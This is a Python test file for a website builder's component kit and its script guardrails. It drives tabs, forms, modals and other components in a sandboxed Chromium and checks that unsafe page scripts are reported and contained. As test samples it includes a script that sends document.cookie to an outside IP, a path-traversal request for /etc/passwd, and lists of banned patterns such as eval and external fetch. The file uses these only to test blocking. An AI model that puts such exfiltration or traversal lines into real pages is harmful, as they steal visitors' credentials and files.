"""The behaviour kit (resources/behaviours, mmstudio.pipeline.behaviours) and confined page
scripts (MM Studio issue 16): the kit's markup and installation, the guardrails' script rules, and
every component driven in the real Chromium behind the renderer's sandbox — by mouse, keyboard and
the functional-check runner — with the visible result asserted; the page also works without
JavaScript. A throwing, looping or networking page script is reported and contained."""

from __future__ import annotations

import contextlib
from pathlib import Path

import pytest

from mmstudio.evaluate.findings import Findings
from mmstudio.evaluate.page_checks import check_page
from mmstudio.feedback import functional
from mmstudio.pipeline import behaviours as kit
from mmstudio.refine import guardrails, llm
from mmstudio.render import find_browser
from mmstudio.render.sandbox import ORIGIN, Sandbox
from mmstudio.resources import resource

requires_browser = pytest.mark.skipif(
    find_browser().executable is None,
    reason=f"no Chromium for Playwright: {find_browser().problem}",
)
session_loop = pytest.mark.asyncio(loop_scope="session")

# --- the kit without a browser ----------------------------------------------------------------


def test_summon_reads_the_words_that_ask_for_each_component():
    words = (
        "Tabs for the three plans, an FAQ, a photo carousel, a contact form, a search that "
        "filters the menu, a Like button, an itinerary I can add stops to, a quiz, a modal"
    )
    assert kit.summon(words) == list(kit.KIT)
    assert kit.summon("I like the blue; make the hero bigger") == []
    assert kit.summon("let visitors upvote each idea") == ["counter"]


def test_snippets_escape_text_and_carry_the_dom_contract():
    html = kit.snippet("tabs", items=[("<b>Plans</b>", 'say "hi"'), ("Team", "us")], mm_id="t")
    assert "&lt;b&gt;Plans&lt;/b&gt;" in html and "<b>" not in html
    assert 'data-mm-behaviour="tabs"' in html and 'data-mm-id="t"' in html
    assert 'href="#tab-b-plans-b"' in html and 'id="tab-b-plans-b"' in html
    form = kit.snippet("form", confirm="Thanks {name} <3")
    assert 'data-mm-confirm="Thanks {name} &lt;3"' in form and form.count("<label") == 3
    with pytest.raises(ValueError, match="not one of its options"):
        kit.snippet("quiz", questions=[("Q", ["a", "b"], "c")])
    with pytest.raises(KeyError, match="no behaviour 'wizard'"):
        kit.snippet("wizard")


def test_configure_reads_which_counter_list_and_form_the_words_mean():
    vote = kit.configure("counter", "an upvote button on each idea")
    assert vote["label"] == "Vote" and vote["toggle"] is False
    assert kit.configure("counter", "a Like button")["toggle"] is True
    trip = kit.configure("list", "an itinerary of stops", ["Lisbon"])
    assert trip["label"] == "Your itinerary" and trip["items"] == ["Lisbon"]
    signup = kit.snippet("form", **kit.configure("form", "a newsletter signup"))
    assert 'type="email"' in signup and "Subscribe" in signup and "Message" not in signup
    with pytest.raises(ValueError, match="shows items"):
        kit.configure("tabs", "tabs please")
    assert "data-mm-accordion-heading" in kit.snippet(
        "accordion", **kit.configure("accordion", "an FAQ", [("Q1", "A1")])
    )


def test_install_copies_the_scripts_and_head_tags_load_them(tmp_path):
    written = kit.install(tmp_path, ["tabs", "form", "tabs"])
    assert written == [kit.CSS_PATH, "assets/js/mm-tabs.js", "assets/js/mm-form.js"]
    assert all((tmp_path / p).is_file() for p in written)
    tags = kit.head_tags(["tabs"])
    assert '<script src="assets/js/mm-tabs.js" defer></script>' in tags
    assert kit.files(["counter"]).keys() == {kit.CSS_PATH, "assets/js/mm-counter.js"}
    with pytest.raises(KeyError):
        kit.install(tmp_path, ["nope"])


def test_placing_a_component_the_way_a_feedback_operation_would_passes_the_guardrails():
    page = (
        "<html><head><title>x</title><style>p{}</style></head><body><main>"
        '<section data-mm-section="faq"><h2>FAQ</h2></section></main></body></html>'
    )
    markup = kit.snippet("accordion", items=[("Q?", "A.")], mm_id="faq-accordion")
    after = kit.with_head_tags(page, ["accordion"]).replace("</h2>", "</h2>" + markup)
    assert kit.with_head_tags(after, ["accordion"]) == after  # idempotent
    assert after.index('src="assets/js/mm-accordion.js"') < after.index("</head>")
    assert guardrails.page_problems(page, after) == []
    assert guardrails.file_problems(kit.files(["accordion"])) == []
    with pytest.raises(ValueError, match="no </head>"):
        kit.with_head_tags("<p>bare</p>", ["tabs"])


def test_every_kit_file_is_confined_and_licensed():
    readme = (resource("behaviours") / "README.md").read_text(encoding="utf-8")
    assert "MIT" in readme
    for b in kit.KIT.values():
        text = (resource("behaviours") / b.file).read_text(encoding="utf-8")
        assert guardrails.code_problems(b.site_path, text) == [], b.file
        assert "MIT licence" in " ".join(text.splitlines()[:2])
        assert f"`{b.name}`" in readme and "data-mm-" in readme


# --- the guardrails: scripts confined, not forbidden --------------------------------------------

PAGE = '<html><head><title>x</title></head><body><main data-mm-id="m">hi</main></body></html>'


def _with(head: str) -> str:
    return PAGE.replace("</head>", f"{head}</head>")


def test_a_page_may_gain_local_scripts_but_nothing_else_active():
    assert guardrails.page_problems(PAGE, _with('<script src="assets/js/mm-tabs.js" defer>'
                                                "</script>")) == []  # fmt: skip
    assert (
        guardrails.page_problems(PAGE, _with('<script type="application/json">{}</script>')) == []
    )
    cases = {
        '<script src="https://cdn.example.com/x.js"></script>': "outside the site",
        '<script src="data:text/javascript,alert(1)"></script>': "outside the site",
        '<script src="assets/img/x.png"></script>': "outside assets/js/",
        "<script>alert(1)</script>": "inline script",
        '<a href="javascript:alert(1)">x</a>': "javascript: URL",
        '<button onclick="go()">x</button>': "event handler",
    }
    for added, why in cases.items():
        problems = guardrails.script_problems(PAGE, _with(added))
        assert problems and why in problems[0], (added, problems)
    local = _with('<script src="assets/js/mm-tabs.js"></script>')
    assert llm.active_content(PAGE, local) == []  # a model page revision may load a kit file
    assert llm.active_content(PAGE, _with("<script>go()</script>"))
    inline = _with("<script>window.a = 1</script>")
    assert guardrails.script_problems(inline, inline) == []  # what the page had stays allowed
    assert "inline script" in guardrails.script_problems(inline, inline.replace("1", "2"))[0]


def test_script_files_may_not_reach_out_or_run_strings():
    bad = {
        "fetch('https://api.example.com/v1')": "external URL",
        "const s = document.createElement('script'); s.src = '//cdn.example.com/a.js';": "URL",
        "eval(code)": "eval",
        "const f = new Function('a', 'return a');": "Function",
        "setTimeout('go()', 10)": "string timer",
        "document.domain = 'example.com'": "document.domain",
        "document.cookie = 'a=1; domain=.example.com'": "another domain",
        "top.localStorage.setItem('a', 1)": "outside the page",
    }
    for code, why in bad.items():
        problems = guardrails.code_problems("assets/js/a.js", "// ok\n" + code)
        assert problems and why in problems[0] and "line 2" in problems[0], (code, problems)
    fine = (
        "localStorage.setItem('k', JSON.stringify([1]));\n"
        "setTimeout(() => go(), 10);\n"
        "document.createElementNS('http://www.w3.org/2000/svg', 'svg'); // a.b.evaluate()\n"
    )
    assert guardrails.code_problems("assets/js/a.js", fine) == []


def test_written_script_files_are_checked_and_shipped_ones_trusted():
    echarts = (resource("vendor") / "echarts.min.js").read_bytes()
    assert guardrails.file_problems({"vendor/echarts.min.js": echarts}) == []
    assert guardrails.file_problems({"assets/js/mm-tabs.js": kit.files(["tabs"])[
        "assets/js/mm-tabs.js"]}) == []  # fmt: skip
    problems = guardrails.file_problems({"assets/js/x.js": b"eval(location.hash)"})
    assert problems and "eval" in problems[0]
    assert guardrails.file_problems(["assets/js/x.js"]) == []  # paths only: no content to read
    assert "outside the site" in guardrails.file_problems({"../x.js": b""})[0]


# --- the kit in Chromium ---------------------------------------------------------------------

ALL = list(kit.KIT)


def _site(tmp_path: Path, names=ALL, *, scripts: bool = True) -> Path:
    site = tmp_path / "site"
    site.mkdir(parents=True)
    parts = {
        "tabs": kit.snippet(
            "tabs",
            items=[("Basic", "Ten euros a month."), ("Pro", "Twenty euros."), ("Team", "Call us.")],
            label="Plans",
        ),
        "accordion": kit.snippet(
            "accordion",
            items=[
                ("Do you ship abroad?", "Yes, to all of Europe."),
                ("Can I return?", "Within 30 days."),
            ],
        ),
        "modal": kit.snippet(
            "modal", title="Opening hours", body="Mon–Fri 9–17.", open_label="See opening hours"
        ),
        "carousel": kit.snippet(
            "carousel",
            slides=[("Harbour", "At dawn."), ("Market", "At noon."), ("Bridge", "At night.")],
            label="Views",
        ),
        "form": kit.snippet("form", confirm="Thank you, {name}! We will write soon."),
        "filter": kit.snippet(
            "filter",
            label="Search the menu",
            items=[("Tomato soup", "vegan"), ("Fish stew", ""), ("Lentil curry", "vegan")],
            tags=["Vegan"],
        ),
        "counter": kit.snippet("counter", label="Like", count=12, key="post-1")
        + kit.snippet("counter", label="Vote", count=3, toggle=False, mm_id="vote"),
        "list": kit.snippet("list", **kit.configure("list", "an itinerary", ["Lisbon", "Porto"])),
        "quiz": kit.snippet(
            "quiz",
            questions=[
                ("Capital of Portugal?", ["Lisbon", "Porto"], "Lisbon"),
                ("Longest river?", ["Douro", "Tagus"], "Tagus"),
            ],
        ),
    }
    head = kit.head_tags(names) if scripts else ""
    if scripts:
        kit.install(site, names)
    body = "".join(
        f'<section data-mm-section="{n}"><h2>{n.title()}</h2>{parts[n]}</section>' for n in names
    )
    (site / "index.html").write_text(
        f"<!doctype html><html lang=en><head><meta charset=utf-8><title>Kit</title>{head}</head>"
        f"<body><main><h1>Kit</h1>{body}</main></body></html>",
        encoding="utf-8",
    )
    return site


@contextlib.asynccontextmanager
async def _page(renderer, site: Path, *, javascript: bool = True):
    """A page of ``site`` behind the renderer's sandbox; yields (page, sandbox)."""
    browser = await renderer._pool.browser()
    context = await browser.new_context(
        viewport={"width": 1000, "height": 800}, java_script_enabled=javascript,
        service_workers="block",
    )  # fmt: skip
    context.set_default_timeout(4000)
    url = f"{ORIGIN}/index.html"
    sandbox = Sandbox(site, url)
    try:
        await context.route("**/*", sandbox.handle)
        page = await context.new_page()
        sandbox.attach(context, page)
        await page.goto(url, wait_until="load")
        yield page, sandbox
    finally:
        await context.close()


@requires_browser
@session_loop
async def test_every_component_works_by_mouse_and_loads_without_errors(renderer, tmp_path):
    from playwright.async_api import expect

    async with _page(renderer, _site(tmp_path)) as (page, sandbox):
        # tabs: one panel shows; clicking another tab switches
        pro = page.get_by_role("tab", name="Pro")
        await expect(page.get_by_text("Ten euros a month.")).to_be_visible()
        await expect(page.get_by_text("Twenty euros.")).to_be_hidden()
        await pro.click()
        await expect(pro).to_have_attribute("aria-selected", "true")
        await expect(page.get_by_text("Twenty euros.")).to_be_visible()
        await expect(page.get_by_text("Ten euros a month.")).to_be_hidden()
        # accordion: closed until its heading's button is pressed
        ship = page.get_by_role("button", name="Do you ship abroad?")
        await expect(page.get_by_text("Yes, to all of Europe.")).to_be_hidden()
        await ship.click()
        await expect(ship).to_have_attribute("aria-expanded", "true")
        await expect(page.get_by_text("Yes, to all of Europe.")).to_be_visible()
        await page.get_by_role("button", name="Can I return?").click()  # single: the other closes
        await expect(page.get_by_text("Yes, to all of Europe.")).to_be_hidden()
        # modal: opens as a dialog, the close button closes it and focus returns
        opener = page.get_by_role("button", name="See opening hours")
        await opener.click()
        dialog = page.get_by_role("dialog", name="Opening hours")
        await expect(dialog).to_be_visible()
        await dialog.get_by_role("button", name="Close").first.click()
        await expect(dialog).to_be_hidden()
        await expect(opener).to_be_focused()
        # carousel: one slide, next / previous wrap around
        views = page.get_by_role("region", name="Views")
        await expect(views.get_by_text("At dawn.")).to_be_visible()
        await expect(views.get_by_text("At noon.")).to_be_hidden()
        await views.get_by_role("button", name="Next slide").click()
        await expect(views.get_by_text("At noon.")).to_be_visible()
        await expect(views.get_by_text("2 of 3", exact=True)).to_be_visible()
        await views.get_by_role("button", name="Previous slide").click()
        await views.get_by_role("button", name="Previous slide").click()
        await expect(views.get_by_text("At night.")).to_be_visible()
        # form: errors first, then the confirmation with the typed name
        send = page.get_by_role("button", name="Send")
        await send.click()
        await expect(page.get_by_text("Name is required.")).to_be_visible()
        await expect(page.get_by_label("Name")).to_be_focused()
        await expect(page.get_by_label("Name")).to_have_attribute("aria-invalid", "true")
        await page.get_by_label("Name").fill("Ana")
        await page.get_by_label("Email").fill("not-an-email")
        await page.get_by_label("Message").fill("Hello there, friends")
        await send.click()
        await expect(
            page.get_by_text("Enter an email address like name@example.com.")
        ).to_be_visible()
        await expect(page.get_by_text("Name is required.")).to_be_hidden()
        await page.get_by_label("Email").fill("ana@example.com")
        await send.click()
        confirmation = page.get_by_role("status").filter(has_text="Thank you, Ana!")
        await expect(confirmation).to_be_visible()
        await expect(send).to_be_hidden()
        # filter: typing hides what does not match; a tag button narrows; no match → message
        search = page.get_by_label("Search the menu")
        await search.fill("soup")
        await expect(page.get_by_text("Tomato soup")).to_be_visible()
        await expect(page.get_by_text("Fish stew")).to_be_hidden()
        await expect(page.get_by_text("1 of 3 shown")).to_be_visible()
        await search.fill("")
        await page.get_by_role("button", name="Vegan").click()
        await expect(page.get_by_text("Fish stew")).to_be_hidden()
        await expect(page.get_by_text("Lentil curry")).to_be_visible()
        await search.fill("pizza")
        await expect(page.get_by_text("Nothing matches your search.")).to_be_visible()
        # counters: a Like toggles, a vote counts every press
        like = page.get_by_role("button", name="Like")
        await like.click()
        await expect(like).to_have_text("Like 13")
        await expect(like).to_have_attribute("aria-pressed", "true")
        await like.click()
        await expect(like).to_have_text("Like 12")
        vote = page.get_by_role("button", name="Vote")
        await vote.click()
        await vote.click()
        await expect(vote).to_have_text("Vote 5")
        # list: add a stop, remove one; the count follows
        await page.get_by_label("Add a stop").fill("Coimbra")
        await page.get_by_role("button", name="Add", exact=True).click()
        items = page.locator("[data-mm-list-items] > li")
        await expect(items).to_have_count(3)
        await expect(items.nth(2)).to_contain_text("Coimbra")
        await page.get_by_role("button", name="Remove Lisbon").click()
        await expect(items).to_have_count(2)
        await expect(page.get_by_role("status").filter(has_text="Removed Lisbon")).to_be_visible()
        await expect(page.locator("[data-mm-list-count]")).to_have_text("2")
        # quiz: scored on submit
        await page.get_by_label("Lisbon").check()
        await page.get_by_label("Douro").check()
        await page.get_by_role("button", name="Check my answers").click()
        await expect(page.get_by_text("You scored 1 of 2")).to_be_visible()
        await expect(page.get_by_text("Not quite — the answer is Tagus")).to_be_visible()
        assert sandbox.console_errors == [] and sandbox.blocked == []


@requires_browser
@session_loop
async def test_components_answer_the_keyboard(renderer, tmp_path):
    from playwright.async_api import expect

    async with _page(renderer, _site(tmp_path, ["tabs", "accordion", "modal", "carousel",
                                                "list"])) as (page, _):  # fmt: skip
        basic = page.get_by_role("tab", name="Basic")
        await basic.focus()
        await page.keyboard.press("ArrowRight")
        await expect(page.get_by_role("tab", name="Pro")).to_be_focused()
        await expect(page.get_by_text("Twenty euros.")).to_be_visible()
        await page.keyboard.press("End")
        await expect(page.get_by_text("Call us.")).to_be_visible()
        await page.keyboard.press("ArrowRight")  # wraps to the first
        await expect(basic).to_have_attribute("aria-selected", "true")
        await expect(basic).to_have_attribute("tabindex", "0")
        await expect(page.get_by_role("tab", name="Pro")).to_have_attribute("tabindex", "-1")
        # accordion: Enter on the focused heading button opens it, ArrowDown moves on
        ship = page.get_by_role("button", name="Do you ship abroad?")
        await ship.focus()
        await page.keyboard.press("Enter")
        await expect(page.get_by_text("Yes, to all of Europe.")).to_be_visible()
        await page.keyboard.press("ArrowDown")
        await expect(page.get_by_role("button", name="Can I return?")).to_be_focused()
        await page.keyboard.press("Space")
        await expect(page.get_by_text("Within 30 days.")).to_be_visible()
        # modal: Enter opens, focus moves inside and stays there, Escape closes
        opener = page.get_by_role("button", name="See opening hours")
        await opener.focus()
        await page.keyboard.press("Enter")
        dialog = page.get_by_role("dialog", name="Opening hours")
        await expect(dialog).to_be_visible()
        for _ in range(3):
            await page.keyboard.press("Tab")
            assert await dialog.evaluate("d => d.contains(document.activeElement)")
        await page.keyboard.press("Escape")
        await expect(dialog).to_be_hidden()
        await expect(opener).to_be_focused()
        # carousel: arrow keys inside the region
        views = page.get_by_role("region", name="Views")
        await views.focus()
        await page.keyboard.press("ArrowRight")
        await expect(views.get_by_text("At noon.")).to_be_visible()
        await page.keyboard.press("ArrowLeft")
        await expect(views.get_by_text("At dawn.")).to_be_visible()
        # list: Enter in the field adds, the item persists in the page's storage after a reload
        field = page.get_by_label("Add a stop")
        await field.fill("Faro")
        await field.press("Enter")
        await expect(page.locator("[data-mm-list-items] > li").nth(2)).to_contain_text("Faro")
        await expect(field).to_be_focused()
        await expect(field).to_have_value("")
        stored = await page.evaluate("() => localStorage.getItem('mm-list:itinerary')")
        assert stored == '["Lisbon","Porto","Faro"]'


AXE_JS = """async () => {
  const r = await axe.run(document, {runOnly: {type: 'tag', values: ['wcag2a', 'wcag2aa',
    'wcag21a', 'wcag21aa', 'best-practice']}, resultTypes: ['violations']});
  return r.violations.map((v) => v.id + ': ' + v.nodes.map((n) => n.target.join(' ')).join(', '));
}"""


@requires_browser
@session_loop
async def test_the_enhanced_components_pass_axe_open_and_closed(renderer, tmp_path):
    from mmstudio.render.scripts import axe_source

    async with _page(renderer, _site(tmp_path)) as (page, _):
        await page.evaluate(axe_source())
        assert await page.evaluate(AXE_JS) == []
        await page.get_by_role("button", name="Do you ship abroad?").click()
        await page.get_by_role("button", name="Send").click()  # errors showing
        await page.get_by_role("button", name="Check my answers").click()
        await page.get_by_role("button", name="See opening hours").click()  # the dialog open
        assert await page.evaluate(AXE_JS) == []


@requires_browser
@session_loop
async def test_the_markup_works_without_javascript(renderer, tmp_path):
    from playwright.async_api import expect

    async with _page(renderer, _site(tmp_path), javascript=False) as (page, _):
        for text in ("Ten euros a month.", "Twenty euros.", "Call us.", "Yes, to all of Europe.",
                     "At dawn.", "At night.", "Mon–Fri 9–17.", "Fish stew", "Porto"):  # fmt: skip
            await expect(page.get_by_text(text, exact=True).first).to_be_visible()
        await expect(page.get_by_role("link", name="Pro")).to_have_attribute("href", "#tab-pro")
        await expect(page.get_by_role("button", name="Like")).to_have_text("Like 12")


@requires_browser
@session_loop
async def test_the_functional_check_runner_drives_the_kit_and_can_fail(renderer, tmp_path):
    site = _site(tmp_path)
    bare = _site(tmp_path / "bare", scripts=False)
    scripts = {
        "tabs": [
            {"action": "click", "selector": "role=tab[name='Pro']"},
            {"action": "expect_visible", "selector": "text=Twenty euros."},
            {"action": "expect_text", "selector": "[role=tab][aria-selected=true]", "text": "Pro"},
        ],
        "form": [
            {"action": "click", "selector": "#contact-form button[type=submit]"},
            {"action": "expect_text", "text": "Name is required."},
            {"action": "type", "selector": "#contact-form-name", "text": "Ana"},
            {"action": "type", "selector": "#contact-form-email", "text": "ana@example.com"},
            {"action": "type", "selector": "#contact-form-message", "text": "Hello from the test"},
            {"action": "click", "selector": "#contact-form button[type=submit]"},
            {"action": "expect_text", "selector": "[role=status]", "text": "Thank you, Ana!"},
        ],
        "filter": [
            {"action": "type", "selector": "[data-mm-filter-input]", "text": "curry"},
            {"action": "expect_text", "selector": "[data-mm-filter-count]", "text": "1 of 3"},
        ],
        "counter": [
            {"action": "click", "selector": "[data-mm-id=vote]"},
            {"action": "expect_text", "selector": "[data-mm-id=vote]", "text": "Vote 4"},
        ],
        "list": [
            {"action": "type", "selector": "[data-mm-list-add] input", "text": "Braga"},
            {"action": "click", "selector": "[data-mm-list-add] button"},
            {"action": "expect_text", "selector": "[data-mm-list-items]", "text": "Braga"},
        ],
    }
    for name, steps in scripts.items():
        parsed = functional.parse_script(steps)
        working = await functional.run_script(site, parsed)
        assert working.passed, (name, working.detail)
        missing = await functional.run_script(bare, parsed)  # the same markup, no behaviour
        assert not missing.passed, (name, missing.detail)


# --- page scripts in the renderer: run, confined, reported -------------------------------------


def _script_site(tmp_path: Path, name: str, code: str) -> Path:
    site = tmp_path / name
    (site / "assets/js").mkdir(parents=True)
    (site / "assets/js/page.js").write_text(code, encoding="utf-8")
    (site / "index.html").write_text(
        '<!doctype html><html lang=en><head><title>Before</title><script src="assets/js/page.js">'
        '</script></head><body><main data-mm-id="m"><h1 id="h">Static</h1></main></body></html>',
        encoding="utf-8",
    )
    return site


@requires_browser
@session_loop
async def test_local_scripts_run_in_the_render_and_a_throw_is_an_issue(renderer, tmp_path):
    code = "document.title = 'After';\naddEventListener('load', () => { h.textContent = 'Live'; });"
    ran = _script_site(tmp_path, "ran", code)
    render = await renderer.render(ran, out_dir=tmp_path / "r1", accessibility=False)
    assert render.failure is None and render.probe.page.title == "After"
    assert render.console_errors == [] and render.blocked == []
    boom = _script_site(tmp_path, "boom", "// a broken page script\nnull.width = 3;\n")
    render = await renderer.render(boom, out_dir=tmp_path / "r2", accessibility=False)
    assert render.failure is None
    assert len(render.console_errors) == 1
    assert render.console_errors[0].startswith("uncaught: TypeError")
    assert render.console_errors[0].endswith("(at assets/js/page.js:2)")
    found = Findings({})
    check_page(render, {}, found)
    issue = next(i for i in found.issues if i.code == "console-error")
    assert "assets/js/page.js:2" in issue.evidence["errors"][0]


@requires_browser
@session_loop
async def test_a_script_that_loops_or_reaches_out_is_contained(renderer, tmp_path):
    loops = _script_site(tmp_path, "loops", "document.title = 'Spun'; for (;;) {}\n")
    render = await renderer.render(loops, out_dir=tmp_path / "r1", accessibility=False)
    assert render.failure is None and render.script_timeouts
    assert render.script_timeouts[0]["stage"] == "load"
    reach = _script_site(
        tmp_path, "reach",
        "fetch('http://203.0.113.9/steal?c=' + document.cookie).catch(() => {});\n"
        "new Image().src = '/../../etc/passwd';\n",
    )  # fmt: skip
    render = await renderer.render(reach, out_dir=tmp_path / "r2", accessibility=False)
    reasons = {r.reason for r in render.blocked}
    assert render.failure is None and "network" in reasons
    assert any(r.url.startswith("http://203.0.113.9") for r in render.blocked)


@requires_browser
@session_loop
async def test_a_click_that_starts_an_endless_loop_fails_its_check_and_says_why(renderer, tmp_path):
    code = "addEventListener('load', () => b.addEventListener('click', () => { for (;;) {} }));"
    site = _script_site(tmp_path, "spin", code)
    page = (site / "index.html").read_text().replace("</main>", '<button id="b">Go</button></main>')
    (site / "index.html").write_text(page)
    steps = functional.parse_script([{"action": "click", "selector": "#b"}])
    outcome = await functional.run_script(site, steps)
    assert not outcome.passed and "stopped responding" in outcome.detail
    assert outcome.seconds < functional.SCRIPT_TIMEOUT_S
    after = await functional.run_script(
        site, [functional.Step(action="expect_text", text="Static")]
    )
    assert after.passed, after.detail  # the browser survives for the next check


@requires_browser
@session_loop
async def test_the_kit_works_from_a_file_url_as_an_exported_site_opens(renderer, tmp_path):
    from playwright.async_api import expect

    site = _site(tmp_path, ["tabs", "list"])
    browser = await renderer._pool.browser()
    context = await browser.new_context()
    try:
        page = await context.new_page()
        await page.goto((site / "index.html").as_uri())
        await page.get_by_role("tab", name="Team").click()
        await expect(page.get_by_text("Call us.")).to_be_visible()
        await page.get_by_label("Add a stop").fill("Évora")
        await page.get_by_label("Add a stop").press("Enter")
        await expect(page.get_by_role("button", name="Remove Évora")).to_be_visible()
    finally:
        await context.close()
